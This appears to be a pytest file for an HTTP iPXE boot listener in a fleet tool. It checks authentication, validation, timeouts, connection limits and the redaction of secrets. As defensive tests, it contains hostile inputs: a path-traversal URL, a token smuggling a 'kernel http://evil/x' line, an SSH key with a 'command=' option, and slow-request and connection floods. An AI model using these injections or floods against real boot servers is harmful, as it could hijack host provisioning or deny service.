"""The boot listener over real HTTP: what a booting host gets, and what everybody else does not."""

from __future__ import annotations

import asyncio
import contextlib
import io
import json
import logging

import aiohttp
import msgspec
import pytest
import structlog
from hypothesis import given
from hypothesis import strategies as st

from fleetd.drivers.boot import listener as listener_room
from fleetd.drivers.boot.capabilities import BootScript, Hello
from fleetd.drivers.boot.listener import BootListener, read_hello
from fleetd.drivers.boot.scripts import read_mac, script_text
from fleetd.drivers.ssh.keys import new_key_pair
from fleetd.kit.errors import Conflict, Denied, FleetError, Invalid, NotFound, Unreachable
from tests.host_rig import Desk

MAC = "04:3f:72:aa:00:01"
TOKEN = "t" * 43


def hello(**more) -> dict:
    _, public = new_key_pair("host")
    said = {
        "environment": "deploy",
        "mac": MAC,
        "serial": "7XK21B3",
        "uuid": "4c4c4544-0053-5210-8038-c8c04f583034",
        "boot_id": "1b4e28ba-2fa1-11d2-883f-0016d3cca427",
        "host_key": public,
    }
    return said | more


@contextlib.asynccontextmanager
async def listening(desk=None, **more):
    listener = BootListener(desk or Desk(), "127.0.0.1", 0, **more)
    await listener.start()
    async with aiohttp.ClientSession(f"http://127.0.0.1:{listener.port}") as session:
        try:
            yield listener, session
        finally:
            await listener.stop()


async def test_an_armed_host_gets_its_token_and_others_the_disk():
    desk = Desk()
    token = desk.arm(MAC, "ssh-ed25519 AAAA")
    async with listening(desk, base_url="http://10.0.0.1:8080/") as (_, session):
        answer = await session.get("/boot/04:3F:72:AA:00:01.ipxe", params={"uuid": "U", "serial": "S"})
        text = await answer.text()
        assert text.startswith("#!ipxe\n")
        assert f"fleetd.token={token}" in text
        assert "fleetd.url=http://10.0.0.1:8080 " in text
        assert "BOOTIF=01-04-3f-72-aa-00-01" in text
        assert "initrd=initrd" in text
        assert answer.headers["Cache-Control"] == "no-store"
        assert desk.asked == [(MAC, "U", "S", "127.0.0.1")]
        other = await session.get("/boot/04:3f:72:aa:00:02.ipxe")
        assert await other.text() == "#!ipxe\nexit 1\n"


async def test_the_whole_conversation():
    desk = Desk()
    token = desk.arm(MAC, "ssh-ed25519 AAAA key")
    bearer = {"Authorization": f"Bearer {token}"}
    async with listening(desk) as (_, session):
        keys = await session.get("/deploy/authorized_keys", headers=bearer)
        assert (keys.status, await keys.text()) == (200, "ssh-ed25519 AAAA key\n")
        answer = await session.post(
            "/deploy/hello", headers=bearer | {"X-Forwarded-For": "9.9.9.9"}, json=hello(mac=MAC.upper(), ssh_port=2222)
        )
        assert answer.status == 204
        _, said, source = desk.hellos.get_nowait()
        assert (said.mac, said.ssh_port, source) == (MAC, 2222, "127.0.0.1")


@pytest.mark.parametrize(
    "header", [None, "", "Bearer", "Bearer short", f"Basic {TOKEN}", f"Bearer {TOKEN}", f"Bearer {TOKEN}'"]
)
async def test_without_a_valid_token_nothing_is_told(header):
    headers = {} if header is None else {"Authorization": header}
    async with listening() as (_, session):
        for call in (
            session.get("/deploy/authorized_keys", headers=headers),
            session.post("/deploy/hello", headers=headers, json=hello()),
        ):
            answer = await call
            assert answer.status == 403
            assert "secret reason" not in await answer.text()
            assert json.loads(await answer.text())["code"] == "FLT-3005"


@pytest.mark.parametrize(
    "wrong",
    [
        {"mac": "04:3f:72:aa:00"},
        {"mac": "04:3f-72:aa:00:01"},
        {"serial": ""},
        {"serial": "a\nb"},
        {"uuid": "x" * 129},
        {"boot_id": ""},
        {"host_key": "ssh-ed25519 AAAA\nssh-ed25519 BBBB"},
        {"host_key": 'command="x" ssh-ed25519 ' + "A" * 60},
        {"ssh_port": 0},
        {"ssh_port": 65536},
        {"environment": "elsewhere"},
        {"serial": 12},
    ],
)
async def test_a_hello_with_a_bad_field_is_refused(wrong):
    desk = Desk()
    token = desk.arm(MAC, "k")
    async with listening(desk) as (_, session):
        answer = await session.post("/deploy/hello", headers={"Authorization": f"Bearer {token}"}, json=hello(**wrong))
        assert answer.status == 422
        assert desk.hellos.empty()


@pytest.mark.parametrize(
    "path", ["/", "/boot/", "/boot/x.ipxe", "/boot/..%2f..%2fetc.ipxe", "/boot/04:3f:72:aa:00:01", "/deploy"]
)
async def test_other_paths_are_not_there(path):
    async with listening() as (_, session):
        assert (await session.get(path)).status == 404


async def test_blanks_around_an_identity_are_not_part_of_it():
    """Vendors pad the fields of SMBIOS; iPXE tells them as they stand, BMC and deploy environment without."""
    desk = Desk()
    async with listening(desk) as (_, session):
        await session.get(f"/boot/{MAC}.ipxe?uuid=U%20&serial=%207XK%2021B3%20%20")
    assert desk.asked == [(MAC, "U", "7XK 21B3", "127.0.0.1")]


async def test_odd_queries_are_refused():
    async with listening() as (_, session):
        assert (await session.get(f"/boot/{MAC}.ipxe", params={"serial": "x" * 129})).status == 422
        assert (await session.get(f"/boot/{MAC}.ipxe", params={"uuid": "a\nb"})).status == 422


async def test_a_large_body_is_not_read():
    desk = Desk()
    bearer = {"Authorization": f"Bearer {desk.arm(MAC, 'k')}"}
    async with listening(desk) as (_, session):
        answer = await session.post("/deploy/hello", headers=bearer, data=b"x" * (64 * 1024 + 1))
        assert answer.status == 413
        answer = await session.post("/deploy/hello", headers=bearer, data=b"[" * 60_000)
        assert answer.status == 422


@pytest.mark.parametrize(
    ("error", "status"),
    [
        (Denied("no", why="host-7 of tenant acme"), 403),
        (Invalid("no", why="host-7 of tenant acme"), 422),
        (NotFound("no", why="host-7 of tenant acme"), 404),
        (Unreachable("no", why="host-7 of tenant acme"), 503),
        (RuntimeError("host-7 of tenant acme"), 500),
    ],
)
async def test_errors_of_the_desk_keep_their_reasons_to_themselves(error, status):
    class Angry(Desk):
        async def script(self, mac, *, uuid, serial, source):
            raise error

    async with listening(Angry()) as (_, session):
        answer = await session.get(f"/boot/{MAC}.ipxe")
        assert answer.status == status
        assert "host-7" not in await answer.text()


async def test_a_desk_that_hangs_is_given_up(monkeypatch):
    class Slow(Desk):
        async def script(self, mac, *, uuid, serial, source):
            await asyncio.Event().wait()
            raise AssertionError

    monkeypatch.setattr("fleetd.drivers.boot.listener.DESK_SECONDS", 0.05)
    async with listening(Slow()) as (_, session):
        assert (await session.get(f"/boot/{MAC}.ipxe")).status == 503


async def test_a_body_that_never_ends_is_given_up(monkeypatch):
    monkeypatch.setattr("fleetd.drivers.boot.listener.BODY_SECONDS", 0.05)
    desk = Desk()
    token = desk.arm(MAC, "k")
    async with listening(desk) as (listener, _):
        reader, writer = await asyncio.open_connection("127.0.0.1", listener.port)
        writer.write(
            f"POST /deploy/hello HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\nContent-Length: 99\r\n\r\n{{".encode()
        )
        async with asyncio.timeout(5):
            assert b" 503 " in await reader.readline()
        writer.close()


async def test_headers_that_never_end_are_cut(monkeypatch):
    monkeypatch.setattr("fleetd.drivers.boot.listener.IDLE_SECONDS", 0.1)
    async with listening() as (listener, _):
        reader, writer = await asyncio.open_connection("127.0.0.1", listener.port)
        writer.write(b"GET /boot/x HTTP/1.1\r\nHost: ")
        async with asyncio.timeout(8):
            assert b" 200 " not in await reader.read()  # the end of the stream: we were cut off
        assert reader.at_eof()
        writer.close()


async def test_who_asks_and_never_reads_is_cut_off(monkeypatch):
    monkeypatch.setattr(listener_room, "UNREAD_SECONDS", 0.5)
    async with listening() as (listener, _):
        _reader, writer = await asyncio.open_connection("127.0.0.1", listener.port, limit=1024)

        async def ask_on() -> None:
            while True:  # its own reader stops at 2 KiB
                writer.write(b"GET /boot/start.ipxe HTTP/1.1\r\nHost: x\r\n\r\n" * 100)
                await writer.drain()

        with pytest.raises(ConnectionError):
            await asyncio.wait_for(ask_on(), 20)
        writer.transport.abort()


async def test_past_the_bound_of_connections_callers_are_sent_away(monkeypatch):
    monkeypatch.setattr("fleetd.drivers.boot.listener.MAX_CONNECTIONS", 0)
    async with listening() as (_, session):
        assert (await session.get(f"/boot/{MAC}.ipxe")).status == 503


async def test_one_address_that_opens_too_many_shuts_out_nobody_else(monkeypatch):
    monkeypatch.setattr("fleetd.drivers.boot.listener.MAX_CONNECTIONS", 20)
    monkeypatch.setattr("fleetd.drivers.boot.listener.MAX_OF_A_SOURCE", 8)
    async with listening() as (listener, session):
        crowd = [
            await asyncio.open_connection("127.0.0.1", listener.port, local_addr=("127.0.0.66", 0)) for _ in range(30)
        ]
        assert (await session.get(f"/boot/{MAC}.ipxe")).status == 200
        async with asyncio.timeout(5):
            for reader, _ in crowd:
                with contextlib.suppress(ConnectionError):
                    assert await reader.read() == b""
        many = [
            await asyncio.open_connection("127.0.0.1", listener.port, local_addr=(f"127.0.1.{n}", 0)) for n in range(30)
        ]
        assert (await session.get(f"/boot/{MAC}.ipxe")).status == 503  # a crowd of as many addresses: nobody is picked
        for _, writer in [*crowd, *many]:
            writer.close()


async def test_a_taken_port_is_a_conflict():
    async with listening() as (listener, _):
        with pytest.raises(Conflict):
            await BootListener(Desk(), "127.0.0.1", listener.port).start()


@pytest.mark.parametrize("slip", [False, True])
async def test_a_flood_of_broken_requests_fills_no_log_and_tells_it_no_token(slip, caplog, monkeypatch):
    """aiohttp would write a traceback for each, with the line that it did not understand; so would we for our own slips."""
    lines = io.StringIO()
    written = structlog.wrap_logger(
        structlog.WriteLogger(lines), wrapper_class=structlog.make_filtering_bound_logger(logging.INFO)
    )
    monkeypatch.setattr(listener_room, "log", written)
    if slip:

        async def slips(self, request):
            raise RuntimeError("in a way nobody thought of")

        monkeypatch.setattr(BootListener, "_start", slips)
        request = b"GET /boot/start.ipxe HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    else:
        request = b"GET / HTTP/1.1\r\nAuthorization: Bearer " + TOKEN.encode() + b"\x01\r\n\r\n"
    hangs_up = f"POST /deploy/hello HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {TOKEN}\r\nContent-Length: 9\r\n\r\n"
    async with listening() as (listener, _):
        for _ in range(40):
            reader, writer = await asyncio.open_connection("127.0.0.1", listener.port)
            writer.write(request)
            assert (await reader.read()).split(b" ")[1] == (b"500" if slip else b"400")
            writer.close()
            _, writer = await asyncio.open_connection("127.0.0.1", listener.port)
            writer.write(hangs_up.encode())
            await writer.drain()
            writer.transport.abort()
    said = lines.getvalue()
    assert TOKEN not in said + caplog.text
    assert 1 <= said.count("boot.request" if slip else "boot.http") <= 10
    assert caplog.text == ""


def test_a_token_that_is_more_than_a_word_never_reaches_a_script():
    with pytest.raises(Invalid):
        script_text(BootScript(token="abc\nkernel http://evil/x" + "a" * 20), MAC, "http://b")


@given(st.binary(max_size=300))
def test_no_body_does_more_than_be_refused(body):
    try:
        assert isinstance(read_hello(body), Hello)
    except FleetError as error:
        assert error.status < 500, "the caller's fault, not ours"


@given(st.text(max_size=40))
def test_no_text_does_more_than_be_no_mac(text):
    try:
        assert len(read_mac(text)) == 17
    except NotFound:
        return


def test_a_hello_reads_as_it_was_written():
    said = Hello(**hello())
    assert read_hello(msgspec.json.encode(said)) == said


ROM = {"uuid": "U", "serial": "S", "plat": "pcbios", "chip": "virtio-net", "ver": "1.0.0"}


async def test_the_ipxe_of_a_bios_rom_is_replaced_by_ours_and_spends_no_token():
    desk = Desk()
    token = desk.arm(MAC, "k")
    async with listening(desk, tftp="tftp://10.77.0.1") as (_, session):
        answer = await session.get(f"/boot/{MAC}.ipxe", params=ROM)
        assert "chain --replace --autofree tftp://10.77.0.1/undionly.kpxe" in await answer.text()
        assert desk.asked == []
        answer = await session.get(f"/boot/{MAC}.ipxe", params=ROM | {"chip": "undionly"})
        assert f"fleetd.token={token}" in await answer.text()
        for params in ({}, ROM | {"plat": "efi"}):
            answer = await session.get(f"/boot/{MAC}.ipxe", params=params)
            assert await answer.text() == "#!ipxe\nexit 1\n"
    assert [s.stage for s in desk.sightings] == ["rom"]


async def test_the_first_script_asks_for_the_machines_own():
    async with listening(base_url="http://10.0.0.1:8680") as (_, session):
        text = await (await session.get("/boot/start.ipxe")).text()
    assert text.startswith("#!ipxe\nchain --replace http://10.0.0.1:8680/boot/${netX/mac}.ipxe?")
    assert all(name in text for name in ("${uuid}", "${serial:uristring}", "${platform}", "${netX/chip:uristring}"))


async def test_a_rom_that_comes_back_again_and_again_is_used_as_it_is():
    desk = Desk()
    desk.arm(MAC, "k")
    async with listening(desk, tftp="tftp://10.77.0.1") as (_, session):
        texts = [await (await session.get(f"/boot/{MAC}.ipxe", params=ROM)).text() for _ in range(3)]
    assert ["chain" in text for text in texts] == [True, True, False]
    assert "fleetd.token=" in texts[2]


async def test_without_our_own_tftp_a_rom_is_used_as_it_is():
    desk = Desk()
    desk.arm(MAC, "k")
    async with listening(desk) as (_, session):
        assert "fleetd.token=" in await (await session.get(f"/boot/{MAC}.ipxe", params=ROM)).text()
